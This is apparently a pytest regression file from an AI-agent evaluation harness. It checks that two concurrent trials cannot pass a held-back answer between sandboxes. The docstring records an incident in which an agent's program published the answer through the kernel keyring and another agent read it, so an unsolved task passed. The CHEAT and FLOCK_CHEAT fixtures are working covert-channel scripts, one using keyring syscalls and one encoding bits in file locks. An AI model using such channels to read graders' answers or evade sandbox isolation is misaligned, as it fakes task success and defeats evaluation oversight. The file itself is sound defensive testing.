"""Two trials running at once could talk through the kernel, which their namespaces do not separate.

The agent's program, run by the verifier of one trial with `/tests` mounted, published the
held-back answer; an agent of the other arm (the cheat tells the arms apart by the pack's memory
file), running beside it under `--concurrency`, read it and wrote it as its answer: a task never
solved passed at L2v, with nothing in the diff or the tamper scan. Two channels were used:

- keyring: every sandbox's root is the same host uid, and a key one sandbox adds is listed in the
  others' `/proc/keys` and readable by its serial. The sandbox's seccomp filter now refuses
  add_key, request_key and keyctl (as Docker's default profile does).
- flock: the read-only system files are the same inodes in every sandbox; a lock held on one is
  seen by another's non-blocking attempt, one bit a file. Such channels cannot all be closed, so
  agent turns and verifiers of one task no longer overlap (`memeval.runner._phases`).
"""

from __future__ import annotations

import platform
import uuid
from pathlib import Path
from typing import NamedTuple

import pytest
from patience import factor
from runner_helpers import make_task, one_item_pack, trials_by_id
from seccomp_rig import run_filter

from memeval.sandbox import Mount, SandboxSpec, run_sandboxed
from memeval.sandbox._seccomp import KEY_CALLS, RET_ALLOW, RET_EPERM

CALLS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl
pytestmark = pytest.mark.skipif(platform.machine() not in CALLS, reason="syscall numbers known for x86_64/aarch64")
ADD_KEY, KEYCTL = CALLS.get(platform.machine(), (0, 0))

TEST_SH = """\
cd /app
python3 /app/solution.py > /dev/null 2>&1
if cmp -s /app/answer.txt /tests/expected.txt; then echo 1; else echo 0; fi > /logs/verifier/reward.txt
"""

# The agent: in the pack arm (it has the pack's memory file) it leaves a program that, when the
# verifier runs it, publishes the held-back answer as a key readable by the sandbox's uid and holds
# it HOLD_S seconds; in the baseline arm it waits up to WAIT_S seconds for such a key. The test
# writes both figures in (`Timing`): with the phases gate working the baseline agents wait out
# WAIT_S before any verifier starts, and the two pack verifiers of the flock channel hold their
# locks one after the other, so the test lasts about WAIT_S + 2 * HOLD_S.
CHEAT = f"""\
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
name = os.environ["KEYNAME"]
if os.path.exists("/app/MEMORY.md"):
    with open("/app/solution.py", "w") as f:
        f.write(f'''import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
data = open("/tests/expected.txt", "rb").read()
k = libc.syscall({ADD_KEY}, b"user", {{name.encode()!r}}, data, len(data), -4)
if k > 0:
    libc.syscall({KEYCTL}, 5, k, 0x3f3f3f3f)  # KEYCTL_SETPERM: everyone may read
    time.sleep(HOLD_S)
''')
    sys.exit(0)
end = time.time() + WAIT_S
while time.time() < end:
    for line in open("/proc/keys"):
        if name in line:
            buf = ctypes.create_string_buffer(256)
            n = libc.syscall({KEYCTL}, 11, int(line.split()[0], 16), buf, 256)  # KEYCTL_READ
            if n > 0:
                open("/app/answer.txt", "wb").write(buf.raw[:n])
                sys.exit(0)
    time.sleep(0.05)
"""


# The same agent through file locks: 8 bits a byte, one /usr file a bit, and a file that says "ready".
# Every program takes its bits' locks in path order and its ready file's last, from a folder no bit
# is drawn from: two instances of this test on one machine (two suites, or a suite and a helper's
# run: each its own KEYNAME, so its own files in its own bit order, and its own phases gate) once
# took overlapping files in different orders with blocking locks and deadlocked until the verifier
# budget killed one (reproduced: two runs side by side, both failed at 315 s). In one global order
# a program waits at most for another's hold; the bounded wait below stays as a backstop.
FLOCK_CHEAT = """\
import fcntl, glob, os, random, sys, time
rng = random.Random(os.environ["KEYNAME"])
files = [rng.choice(sorted(glob.glob("/usr/lib/python3*/email/*.py")))]
files += rng.sample(sorted(glob.glob("/usr/lib/python3*/*.py")), 8 * 16)
if os.path.exists("/app/MEMORY.md"):
    with open("/app/solution.py", "w") as f:
        f.write(f'''import fcntl, os, time
files = {files!r}
data = open("/tests/expected.txt", "rb").read()[:16].ljust(16, b"\\\\0")
end = time.time() + 4 * HOLD_S
def take(path):
    fd = os.open(path, os.O_RDONLY)
    while True:
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            return fd
        except BlockingIOError:
            if time.time() > end:  # the other pack verifier's program holds them still: publish nothing
                raise SystemExit(0)
            time.sleep(0.05)
held = [take(p) for p in sorted(files[1 + i] for i in range(8 * 16) if data[i // 8] >> (i % 8) & 1)]
held.append(take(files[0]))
time.sleep(HOLD_S)
''')
    sys.exit(0)

def locked(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
        return 0
    except BlockingIOError:
        return 1
    finally:
        os.close(fd)

end = time.time() + WAIT_S
while time.time() < end:
    if locked(files[0]):
        bits = [locked(p) for p in files[1:]]
        data = bytes(sum(bits[8 * i + j] << j for j in range(8)) for i in range(16))
        open("/app/answer.txt", "wb").write(data.rstrip(b"\\0"))
        sys.exit(0)
    time.sleep(0.05)
"""


WAIT_S = 8.0
"""How long a baseline agent looks for the answer, quiet (was 15): a verifier left to run beside it
starts within about 2 s of it on a quiet machine (its pack agent only writes a file), so 8 s still
covers that start four times over; scaled on a busy machine (`Timing`)."""
HOLD_S = 3.0
"""How long a pack verifier's program holds the answer out (was 10): the waiting agent looks every 0.05 s.
The second pack verifier's program waits at most 4 * HOLD_S for the locks, then publishes nothing: in
the suite (stop 43's CI, 2026-12-05 18:36 UTC locally) it once waited past its 210 s budget, on the
locks of another run of this test on the machine taken in another order (see FLOCK_CHEAT; alone it
ends in 15 s). Only the first verifier's publishing can reach an agent, so the check is the same."""
AGENT_BUDGET_S = 60.0
"""The task's agent budget, quiet: a baseline agent's WAIT_S and its sandbox's start, with room."""
VERIFIER_BUDGET_S = 120.0
"""The task's verifier budget, quiet. The two pack verifiers run at once (verifiers of a task never
wait for each other) and, in the flock channel, take the same locks in the same order: the second
blocks until the first's program ends, then holds them itself, so it runs 2 * HOLD_S plus both
programs' start; scaled on a busy machine with the holds (`Timing`)."""


class Timing(NamedTuple):
    """The test's figures on this machine now, in seconds: each quiet figure times one `factor()`.

    The baseline agents look for the answer while no verifier of the task runs (the phases gate
    holds the verifiers until they end), so the agent budget must outlast `wait_s`; the second pack
    verifier's run is two holds long. Scaled by one reading of the load, the waits and the budgets
    that must hold them grow together: at factor 10 the waits (80 s, 2 * 30 s) ran into the fixed
    budgets (60 s, 120 s): the agents were cut at 60 s, and in CI a pack verifier ran over 120 s.
    """

    wait_s: float
    hold_s: float
    agent_budget_s: float
    verifier_budget_s: float

    @classmethod
    def now(cls) -> Timing:
        """The figures scaled by `factor()`, read once."""
        f = factor()
        return cls(WAIT_S * f, HOLD_S * f, AGENT_BUDGET_S * f, VERIFIER_BUDGET_S * f)

    def script(self, script: str) -> str:
        """`script` with its WAIT_S and HOLD_S placeholders replaced by these figures."""
        return script.replace("WAIT_S", f"{self.wait_s:.1f}").replace("HOLD_S", f"{self.hold_s:.1f}")

    def task_toml(self) -> str:
        """The task's budgets."""
        verifier, agent = f"{self.verifier_budget_s:.1f}", f"{self.agent_budget_s:.1f}"
        return f"[verifier]\ntimeout_sec = {verifier}\n[agent]\ntimeout_sec = {agent}\n"


@pytest.mark.slow
@pytest.mark.parametrize("channel", ["keyring", "flock"])
def test_a_verifier_cannot_hand_the_held_back_answer_to_an_agent_running_beside_it(
    tmp_path: Path, run_ab, channel: str
) -> None:
    timing = Timing.now()
    t = make_task(
        tmp_path / "tasks",
        "secret",
        test_sh=TEST_SH,
        files={".cheat.py": timing.script(CHEAT if channel == "keyring" else FLOCK_CHEAT)},
        instruction="Write the secret number to /app/answer.txt.\n",
        task_toml=timing.task_toml(),
    )
    (t / "tests" / "expected.txt").write_text("913772\n")
    code, doc, err = run_ab(
        str(tmp_path / "tasks"),
        "--network", "none", "--agent", "command", "--agent-cmd", "python3 /app/.cheat.py",
        "--repeats", "2", "--concurrency", "4", "--env", f"KEYNAME=memeval-leak-{uuid.uuid4().hex}",
        "--pack", str(one_item_pack(tmp_path / "pack.json")),
    )  # fmt: skip
    assert code in (0, 1), (err, [(t["trial_id"], t["fault"]) for t in doc.get("trials", [])])
    trials = trials_by_id(doc)
    assert len(trials) == 4
    for tid, tr in trials.items():
        assert tr["fault"] is None, (tid, tr["fault"])
        # every agent ended by itself: a baseline one looked for the answer its whole WAIT_S, not cut by its budget
        assert tr["execution"] == "completed", (tid, tr["execution"])
        assert (tr["verified"], tr["reward"]) == (False, 0), tid
    assert "kernel keyring calls and file watches refused" in doc["run_card"]["sandbox"]


def test_a_sandbox_cannot_add_a_key(tmp_path: Path) -> None:
    probe = (
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\n"
        f"k = libc.syscall({ADD_KEY}, b'user', b'probe', b'x', 1, -4)\n"
        "print(k, os.strerror(ctypes.get_errno()) if k < 0 else 'added')\n"
    )
    w = tmp_path / "w"
    w.mkdir(mode=0o755)
    (w / "probe.py").write_text(probe)
    out = tmp_path / "out.txt"
    spec = SandboxSpec((Mount(w, "/w", writable=True),), "/w")
    res = run_sandboxed(spec, ["python3", "/w/probe.py"], timeout_s=30, stdout=out, stderr=out)
    assert res.exit_code == 0, out.read_text()
    assert out.read_text().strip() == "-1 Operation not permitted"


def test_the_filter_refuses_exactly_the_key_calls_of_each_architecture() -> None:
    for arch, calls in KEY_CALLS.items():
        for nr in calls:
            assert run_filter(arch, nr) == RET_EPERM, (hex(arch), nr)
        for nr in (0, 1, 59, 57, 231, min(calls) - 1, max(calls) + 1):
            assert run_filter(arch, nr) == RET_ALLOW, (hex(arch), nr)
    assert run_filter(0xC000003E, 0x40000000 | 250) == RET_EPERM  # x32's keyctl
    assert run_filter(0x12345678, 250) == RET_ALLOW  # an architecture it does not know
